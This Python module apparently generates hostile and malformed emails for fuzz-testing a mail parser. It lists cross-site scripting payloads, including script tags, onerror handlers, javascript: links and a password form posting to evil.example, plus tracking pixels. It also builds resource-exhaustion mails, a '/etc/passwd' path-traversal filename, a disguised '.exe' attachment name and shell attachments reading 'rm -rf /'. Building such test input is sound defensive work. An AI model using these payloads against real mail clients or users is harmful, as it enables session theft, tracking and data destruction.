"""Which mails are written to break their reader? Made here, each kind in as many shapes as are asked for."""

import random
from base64 import b64encode
from collections.abc import Callable, Iterator
from typing import Final

HEAD: Final = (
    b"From: Jo <jo@payer.example>\nTo: ar@bench.example\nSubject: Invoice\nDate: Tue, 10 Mar 2026 09:15:00 +0100\n"
)
Maker = Callable[[random.Random, int], bytes]

# Ways into a reader's browser that have worked somewhere.
ACTIVE: Final = (
    "<script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    '<img src=x onerror="alert(1)">',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href=" \x01javascript:alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<iframe src="https://evil.example"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>">',
    '<object data="evil.swf"></object><embed src="evil.swf">',
    '<form action="https://evil.example"><input name=password><button>ok</button></form>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<base href="https://evil.example/">',
    '<link rel=stylesheet href="https://evil.example/x.css">',
    "<style>@import url(https://evil.example/x.css);</style>",
    '<div style="background:url(https://evil.example/x)">x</div>',
    '<div style="width:expression(alert(1))">x</div>',
    '<img src="https://spy.example/pixel.gif">',
    '<img srcset="https://spy.example/a.gif 2x">',
    '<picture><source srcset="https://spy.example/a.gif"><img></picture>',
    '<video src="https://spy.example/a" autoplay onplay=alert(1)></video>',
    '<body onload=alert(1) background="https://spy.example/a">',
    '<table background="https://spy.example/a"><td>x</td></table>',
    '<input type=image src=x onerror=alert(1) formaction="javascript:alert(1)">',
    "<details open ontoggle=alert(1)>x</details>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<template><img src=x onerror=alert(1)></template>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[><img src=x onerror=alert(1)>]]>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<plaintext><img src=x onerror=alert(1)>",
    '<title><img title="</title><img src=x onerror=alert(1)>">',
    "<p title='\"><img src=x onerror=alert(1)>'>x</p>",
    '<a href="https://x" onmouseover\n=\nalert(1)>x</a>',
    "<img/src=x/onerror=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    '<a href="vbscript:msgbox(1)" target=_top ping="https://spy.example">x</a>',
    '<div id="body" name="cookie" class="x" contenteditable onfocus=alert(1) tabindex=1 autofocus>x</div>',
)


def hostile_mails(chance: random.Random, count: int) -> Iterator[tuple[str, bytes]]:
    """As many hostile mails as are asked for, each with the name of its kind."""
    for number in range(count):
        kind = MAKERS[number % len(MAKERS)]
        yield kind.__name__.strip("_"), kind(chance, number // len(MAKERS))


def _html(chance: random.Random, number: int) -> bytes:
    return _part(
        b"text/html; charset=utf-8", "".join([*chance.sample(ACTIVE, 8), ACTIVE[number % len(ACTIVE)]]).encode()
    )


def _html_in_odd_letters(chance: random.Random, number: int) -> bytes:
    charset = ("utf-7", "utf-16", "iso-2022-jp", "utf-32", "shift_jis", "idna", "hz", "x-user-defined")[number % 8]
    text = "+ADw-script+AD4-alert(1)+ADw-/script+AD4-" + chance.choice(ACTIVE)
    octets = text.encode(charset, "ignore") if charset in ("utf-16", "utf-32") else text.encode()
    return _part(f"text/html; charset={charset}".encode(), octets)


def _html_deep(chance: random.Random, number: int) -> bytes:
    tag = chance.choice((b"div", b"b", b"table><tr><td", b"svg", b"math", b"blockquote", b"font", b"a href=x"))
    return _part(b"text/html", (b"<" + tag + b">") * chance.randint(500, 60_000) + b"<script>1</script>")


def _html_unclosed(chance: random.Random, number: int) -> bytes:
    piece = (b"<!--", b"<![CDATA[", b"<!DOCTYPE", b"<?", b"</", b"<a ", b'<a b="', b"&#", b"<script>", b"<a href='")[
        number % 10
    ]
    return _part(b"text/html", piece * chance.randint(1_000, 200_000))


def _html_wide(chance: random.Random, number: int) -> bytes:
    attributes = b" ".join(b"a%d=1" % n for n in range(chance.randint(1_000, 30_000)))
    return _part(b"text/html", b"<p " + attributes + b">x</p>" + b"&nbsp;" * 50_000)


def _header_long(chance: random.Random, number: int) -> bytes:
    name = (b"Subject", b"From", b"To", b"References", b"Content-Type", b"Date", b"Received", b"X")[number % 8]
    filling = (b"(", b'"', b"<", b"=?utf-8?q?", b"a@b,", b"<a@b>", b"\\", b";x=")[chance.randrange(8)]
    return HEAD + name + b": " + filling * chance.randint(5_000, 100_000) + b"\n\nwords"


def _headers_many(chance: random.Random, number: int) -> bytes:
    return HEAD + b"".join(b"X-%d: %d\n" % (n, n) for n in range(chance.randint(1_000, 60_000))) + b"\nwords"


def _headers_folded(chance: random.Random, number: int) -> bytes:
    return HEAD + b"Subject:" + b"\n x" * chance.randint(1_000, 100_000) + b"\n\nwords"


def _encoded_words(chance: random.Random, number: int) -> bytes:
    word = (b"=?utf-8?b?4oKs?= ", b"=?utf-8?q?=E2=82?=\n ", b"=?x?x?x?=", b"=?iso-2022-jp?b?GyRC?= ", b"=?utf-8?b?")[
        number % 5
    ]
    return b"Subject: " + word * chance.randint(100, 4_000) + b"\n" + HEAD + b"\nwords"


def _parameters(chance: random.Random, number: int) -> bytes:
    pieces = b";".join(b" filename*%d*=%%FF" % (n % 1000) for n in range(chance.randint(10, 2_000)))
    return (
        HEAD
        + b"Content-Disposition: attachment;"
        + pieces
        + b'\nContent-Type: application/pdf; name="../../\x00/etc/passwd\n\nx'
    )


def _addresses(chance: random.Random, number: int) -> bytes:
    name = (b"((((", b'"\\"\\"', b"<<<>>>", b"a:b:;", b"@@@", b"=?utf-8?q?x@y?= <", b"\x00@\x00,", b"a@\xff\xfe,")[
        number % 8
    ]
    return b"From: " + name * chance.randint(100, 3_000) + b"jo@payer.example\nSubject: x\n\nwords"


def _deep(chance: random.Random, number: int) -> bytes:
    depth = chance.randint(30, 3_000)
    inner = [b"Content-Type: multipart/mixed; boundary=b%d\n\n--b%d\n" % (n, n) for n in range(depth)]
    wrapped = [b"Content-Type: message/rfc822\n\n"] * depth
    return HEAD + b"".join(inner if number % 2 else wrapped) + b"Content-Type: text/html\n\n<script>1</script>"


def _same_boundary(chance: random.Random, number: int) -> bytes:
    part = b"--b\nContent-Type: multipart/mixed; boundary=b\n\n"
    return HEAD + b"Content-Type: multipart/mixed; boundary=b\n\n" + part * chance.randint(50, 20_000)


def _parts_many(chance: random.Random, number: int) -> bytes:
    return HEAD + b"Content-Type: multipart/mixed; boundary=b\n\n" + b"--b\n\nx\n" * chance.randint(300, 100_000)


def _boundary_odd(chance: random.Random, number: int) -> bytes:
    mark = (b".*" * 30, b"(" * 69, b" ", b"", b"\\", b"a" * 5_000, b"--", b"\xff" * 9)[number % 8]
    return HEAD + b'Content-Type: multipart/mixed; boundary="' + mark + b'"\n\n' + (b"--" + mark + b"\n\nx\n") * 300


def _base64_odd(chance: random.Random, number: int) -> bytes:
    octets = (b"=" * 100_000, b"A" * 4_000_001, b"!@#$" * 50_000, b64encode(bytes(300_000))[:-1], b"QQ==" * 50_000)[
        number % 5
    ]
    return _part(b"application/pdf; name=x.pdf", octets, b"Content-Transfer-Encoding: base64\n")


def _quoted_printable_odd(chance: random.Random, number: int) -> bytes:
    octets = (b"=" * 200_000, b"=\n" * 100_000, b"=0" * 100_000, b"=C3" * 100_000, b" " * 500_000)[number % 5]
    return _part(b"text/plain; charset=utf-8", octets, b"Content-Transfer-Encoding: quoted-printable\n")


def _uuencode_odd(chance: random.Random, number: int) -> bytes:
    lines = b"begin 644 x\n" + b"".join(
        bytes([chance.randrange(33, 127)]) * chance.randint(1, 70) + b"\n" for _n in range(3_000)
    )
    return _part(b"application/octet-stream; name=x", lines, b"Content-Transfer-Encoding: x-uuencode\n")


def _reply_long(chance: random.Random, number: int) -> bytes:
    line = (
        b"On 1 2026 a@b.example",
        b"> ",
        b"From: a@b",
        b"--",
        b"Op 1 heeft",
        b"wrote:",
        b"Am 1. hat",
        b"<a@b.example",
        b"2026-01-01 x@y.example",
        b"|",
    )[number % 10]
    ending = chance.choice((b"\n", b" ", b"\n\n"))
    return _part(b"text/plain", (line + ending) * chance.randint(1_000, 100_000))


def _absence_long(chance: random.Random, number: int) -> bytes:
    words = (b"from 1 ", b"until ", b"vom 1. bis ", b"du 1 au ", b"back on ", b"1 mei 1 mei ", b"from monday 1/1/")[
        number % 7
    ]
    return HEAD + b"Auto-Submitted: auto-replied\n\nout of office " + words * chance.randint(100, 20_000)


def _report_long(chance: random.Random, number: int) -> bytes:
    block = b"Final-Recipient: rfc822; jo%d@payer.example\nAction: failed\nStatus: 5.1.1\n\n"
    blocks = b"".join(block % n for n in range(chance.randint(200, 20_000)))
    head = (
        HEAD + b"Return-Path: <>\nContent-Type: multipart/report; report-type=delivery-status; boundary=b\n\n--b\n\nx\n"
    )
    return head + b"--b\nContent-Type: message/delivery-status\n\n" + blocks + b"\n--b--"


def _bounce_long(chance: random.Random, number: int) -> bytes:
    words = (
        b"a@b.example ",
        b"<a@b.example>\n",
        b"5.1.1 ",
        b"user unknown ",
        b"----",
        b"mailbox " * 5,
        b"recipient address ",
    )[number % 7]
    return (
        b"Return-Path: <>\nFrom: MAILER-DAEMON@x.example\nSubject: failure notice\n\ncould not be delivered\n"
        + words * chance.randint(1_000, 100_000)
    )


def _no_mail(chance: random.Random, number: int) -> bytes:
    return (
        b"\x00" * 100_000,
        chance.randbytes(50_000),
        b"\r" * 100_000,
        b"\n",
        b":" * 100_000,
        b"PK\x03\x04" + bytes(9_000),
        b"\xff\xfe" * 9_000,
    )[number % 7]


def _names_of_files(chance: random.Random, number: int) -> bytes:
    name = (
        b"\xe2\x80\xaegnp.exe",
        b"con",
        b"." * 300,
        b"a/" * 500,
        b"\x00\x01\n",
        b"%00",
        b"<script>.html",
        b"x" * 9_000,
    )[number % 8]
    parts = b"".join(
        b'--b\nContent-Type: application/x-sh; name="' + name + b'"\n\nrm -rf /\n'
        for _n in range(chance.randint(1, 300))
    )
    return HEAD + b"Content-Type: multipart/mixed; boundary=b\n\n" + parts + b"--b--"


def _dates(chance: random.Random, number: int) -> bytes:
    day = (
        b"9" * 16_000,
        b"Tue, 99 Foo 99999 99:99:99 +9999",
        b"0",
        b"\xff",
        b"1 Jan 1 00:00:00",
        b"::::::",
        b"-1 -1 -1 -1",
    )[number % 7]
    return b"Date: " + day + b"\nFrom: jo@payer.example\nSubject: x\n\nwords"


def _large(chance: random.Random, number: int) -> bytes:
    size = (39_000_000, 30_000_000, 20_000_000)[number] if number < 3 else 2_000_000
    octets = b64encode(bytes(size * 3 // 4)) if number % 2 else b"x" * size
    return _part(
        b"text/plain" if number == 2 else b"application/zip; name=x.zip",
        octets,
        b"Content-Transfer-Encoding: base64\n" * (number % 2),
    )


def _part(kind: bytes, octets: bytes, more: bytes = b"") -> bytes:
    return HEAD + b"Content-Type: " + kind + b"\n" + more + b"\n" + octets


MAKERS: Final[tuple[Maker, ...]] = (
    _html,
    _html_in_odd_letters,
    _html_deep,
    _html_unclosed,
    _html_wide,
    _header_long,
    _headers_many,
    _headers_folded,
    _encoded_words,
    _parameters,
    _addresses,
    _deep,
    _same_boundary,
    _parts_many,
    _boundary_odd,
    _base64_odd,
    _quoted_printable_odd,
    _uuencode_odd,
    _reply_long,
    _absence_long,
    _report_long,
    _bounce_long,
    _no_mail,
    _names_of_files,
    _dates,
    _large,
)


def mutations(chance: random.Random, count: int, mails: list[bytes]) -> Iterator[tuple[str, bytes]]:
    """As many spoilt copies of mails as are asked for."""
    for _number in range(count):
        mail = bytearray(chance.choice(mails)[:200_000])
        for _time in range(chance.randint(1, 6)):
            _spoil(mail, chance)
        yield "mutation", bytes(mail)


def _spoil(mail: bytearray, chance: random.Random) -> None:
    at = chance.randrange(len(mail) + 1)
    size = min(chance.choice((1, 2, 16, 300, 5_000)), len(mail) - at)
    how = chance.randrange(6)
    if how == 0:
        mail[at : at + size] = chance.randbytes(size)
    elif how == 1:
        del mail[at : at + size]
    elif how == 2:
        mail[at:at] = mail[at : at + size] * chance.choice((1, 2, 50))
    elif how == 3:
        mail[at:at] = chance.choice(_WORDS)
    elif how == 4:
        other = chance.randrange(len(mail) + 1)
        mail[at:at] = mail[other : other + size]
    elif len(mail) > 200:
        del mail[max(100, at) :]


_WORDS: Final = (
    b"\n\n",
    b"\x00",
    b"\r",
    b"--",
    b'"',
    b"<",
    b"<!--",
    b"<script>alert(1)</script>",
    b'<img src=x onerror="alert(1)">',
    b"=?utf-8?b?",
    b"Content-Type: multipart/mixed; boundary=x\n",
    b"Content-Type: text/html\n",
    b"Content-Transfer-Encoding: base64\n",
    b"boundary=",
    b"\xed\xa0\x80",
    b"(" * 200,
    b"On 10/03/2026, a@b.example wrote:\n",
)
